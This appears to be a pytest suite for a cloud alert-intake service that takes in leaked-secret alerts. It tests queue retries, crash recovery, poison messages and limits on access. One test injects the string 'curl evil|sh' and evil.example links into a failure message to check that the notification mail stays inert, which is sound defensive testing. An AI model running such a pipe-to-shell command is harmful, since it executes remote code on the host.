"""Alerts of other tools are read, at once or from the queue, through failures and crashes."""

from dataclasses import replace
from datetime import timedelta
from urllib.parse import urlsplit

import msgspec
import pytest

from local.reporters import reports
from local.tenant.model import Account
from shared.domain.alert import AlertReference, AlertSource
from shared.domain.finding import Finding
from shared.domain.states import Reason, State
from shared.persistence import alert_queue
from shared.persistence.alert_queue import AlertMessage
from shared.persistence.queues import Message
from tests.support.asgi import Credential
from tests.support.driver import Crashed, Driver, Lifetime, report
from tests.support.harmless import Page, check_inert, check_text
from tests.support.reported_alerts import alert_of, made, request
from tests.support.samples import NOW


def published(driver: Driver, account: Account) -> list[str]:
    """The ids of the findings that the intake has published about an account."""
    events = driver.cloud.model.events
    return [e["id"] for e in events if account.name in str(e.get("data")) and "/intake/" in str(e.get("source"))]


async def test_alert_is_read_at_once_and_nothing_is_left_in_the_queue(driver: Driver, account: Account) -> None:
    answer = await driver.app().http.intake.receive(request(made(driver, account)))

    assert answer.status_code == 202
    assert len(published(driver, account)) == 1
    assert driver.requests("DELETE https://sasquashstate.queue.core.windows.net/intake/messages/")


@pytest.mark.parametrize(
    "call", ["/installation", "/access_tokens", "secret-scanning/alerts/", "/locations", "/git/blobs"]
)
async def test_whatever_call_fails_the_queue_reads_it_again(driver: Driver, account: Account, call: str) -> None:
    driver.fault(call, status=502, times=3)
    answer = await driver.app().http.intake.receive(request(made(driver, account)))
    assert (answer.status_code, published(driver, account)) == (202, [])

    driver.cloud.faults.clear()
    message = AlertMessage(alert_of(driver)[0], driver.clock())
    await driver.app().http.alert_reader.resume(message)

    assert len(published(driver, account)) == 1


@pytest.mark.parametrize("carried_out", [False, True])
async def test_intake_crash_at_any_call_loses_nothing(driver: Driver, account: Account, *, carried_out: bool) -> None:
    posted = made(driver, account)
    reference, _ = alert_of(driver)
    for number in range(1, 30):
        before = len(published(driver, account))
        life = Lifetime(ends_at=number, carried_out=carried_out)
        try:
            await driver.app(life).http.intake.receive(request(posted))
        except Crashed:
            durable = driver.requests("POST https://sasquashstate.queue.core.windows.net/intake/messages")
            if durable or len(published(driver, account)) > before:
                continue  # the queue has it, or the topic
            assert number <= 2  # nothing is lost by then: the reporter gets no response
        else:
            assert number > 5
            break
    await driver.app().http.alert_reader.resume(AlertMessage(reference, driver.clock()))
    assert set(published(driver, account)) == {published(driver, account)[0]}


async def test_message_in_the_queue_names_the_alert_and_nothing_else(driver: Driver, account: Account) -> None:
    driver.fault("api.github.com", status=503, times=None)
    made(driver, account)
    reference, _ = alert_of(driver)
    await driver.app().http.alert_reader.take([reference])

    client = driver.app().clients.queue("intake")
    texts = [message.content async for message in client.receive_messages(visibility_timeout=1)]
    messages = [alert_queue.read(text.encode()) for text in texts]
    assert reference in [message.alert for message in messages]
    assert all("sig=" not in str(message) for message in messages)


async def test_alert_that_can_t_be_read_becomes_a_failed_record_an_incident_and_a_mail(
    driver: Driver, account: Account
) -> None:
    await driver.no_floods()
    made(driver, account)
    reference, kept = alert_of(driver)
    kept.secret = ""  # GitHub hides it
    await driver.app().http.alert_reader.resume(AlertMessage(reference, driver.clock()))

    message = AlertMessage(reference, driver.clock(), 0, "GitHub hides it from this app.")
    text = msgspec.json.encode(message)
    for _ in range(2):
        await driver.app().background.poison_messages.unread(text)
    fingerprints = {s.message.fingerprint for s in driver.sent if s.queue == "follow-up"}
    [record] = [await driver.record(fingerprint) for fingerprint in fingerprints]
    before = len(driver.cloud.model.mails)
    await driver.app().background.follow_up.run(Message(record.fingerprint))

    assert (record.state, record.reason) == (State.FAILED, Reason.UNREAD)
    assert f"{reference} was reported" in record.detail
    assert len(driver.shared_incidents(await driver.record(record.fingerprint))) == 1
    await driver.app().background.summary_mail.send()
    assert "ALERT NOT READABLE" in driver.cloud.model.mails[before].subject


async def test_failure_of_an_unreadable_alert_is_no_command_in_the_mail_about_it(driver: Driver) -> None:
    """The text of an exception may quote what a service or a stranger said."""
    await driver.no_floods()
    failure = "Reading failed: `curl evil|sh`, see https://evil.example or <a href=//evil.example>this</a>."
    message = AlertMessage(AlertReference(AlertSource.GITHUB, "contoso/x", "77"), driver.clock(), 0, failure)
    await driver.app().background.poison_messages.unread(msgspec.json.encode(message))
    [fingerprint] = {s.message.fingerprint for s in driver.sent if s.queue == "follow-up"}
    before = len(driver.cloud.model.mails)

    await driver.app().background.follow_up.run(Message(fingerprint))
    await driver.app().background.summary_mail.send()

    mail, [incident] = driver.cloud.model.mails[before], driver.shared_incidents(await driver.record(fingerprint))
    page = Page(mail.body)
    assert "curl evil|sh" in "".join(page.text)
    assert page.code == []
    assert [link for link in page.links if not link.endswith(f"#/record/{fingerprint}")] == []
    for text in incident.fields.values():
        check_inert(text)
    for line in await driver.history(fingerprint):
        check_text(line.what)


async def test_foreign_message_in_the_poison_queue_is_reported(driver: Driver) -> None:
    await driver.app().background.poison_messages.unread(b"none of ours")
    [fingerprint] = {s.message.fingerprint for s in driver.sent if s.queue == "follow-up"}

    assert (await driver.record(fingerprint)).reason is Reason.CRASHED


async def test_report_while_event_grid_is_down_is_to_be_sent_again(driver: Driver, account: Account) -> None:
    driver.fault("eventgrid.azure.net", status=503, times=None)
    posted = made(driver, account, source="wiz")
    answer = await driver.app().http.intake.receive(request(posted))
    driver.cloud.faults.clear()

    assert (answer.status_code, published(driver, account)) == (503, [])
    assert (await driver.app().http.intake.receive(request(posted))).status_code == 202


@pytest.mark.parametrize("source", reports.SOURCES)
async def test_intake_apart_needs_no_right_on_any_account_and_reaches_none(
    driver: Driver, account: Account, source: str
) -> None:
    intake = driver.app(
        credential=Credential(driver.cloud.entra, driver.cloud.model.identities["intake"])
    ).http.intake
    answer = await intake.receive(request(made(driver, account, source=source)))

    assert (answer.status_code, len(published(driver, account))) == (202, 1)
    hosts = {urlsplit(call.url).hostname for call in driver.requests() if call.identity == "intake"}
    assert hosts <= {
        "sasquash.westeurope-1.eventgrid.azure.net",
        "sasquashstate.queue.core.windows.net",
        "graph.microsoft.com",
        "advsec.dev.azure.com",
        "dev.azure.com",
    }
    assert not driver.requests(f"{account.name}.")
    assert not driver.requests("management.azure.com")
    assert account.rotations == []


async def test_evidence_asks_a_person_and_a_key_made_since_the_token_was_seen_answers_it(
    driver: Driver, account: Account
) -> None:
    made(driver, account, source="defender", key="key2")
    kept = driver.cloud.model.alerts.defender[-1]
    alert = AlertReference(AlertSource.DEFENDER, "", kept.id)
    [finding] = (await driver.app().http.alert_reader.take([alert]))[alert] or ()
    assert finding.evidence is not None
    await driver.app().fast_path.ingest.receive(report(finding))
    asked = await driver.record(finding.fingerprint)
    account.key_created["key2"] = driver.clock() + timedelta(minutes=5)
    driver.clock.advance(minutes=10)
    another_token = replace(finding.evidence, signature_sha256="cd" * 32)
    later = Finding.of_evidence(another_token, source="defender", url=None, detected_at=NOW, alert=finding.alert)
    await driver.app().fast_path.ingest.receive(report(later))

    assert (asked.state, account.rotations) == (State.AWAITING_APPROVAL, [])
    assert (await driver.record(later.fingerprint)).reason is Reason.COVERED
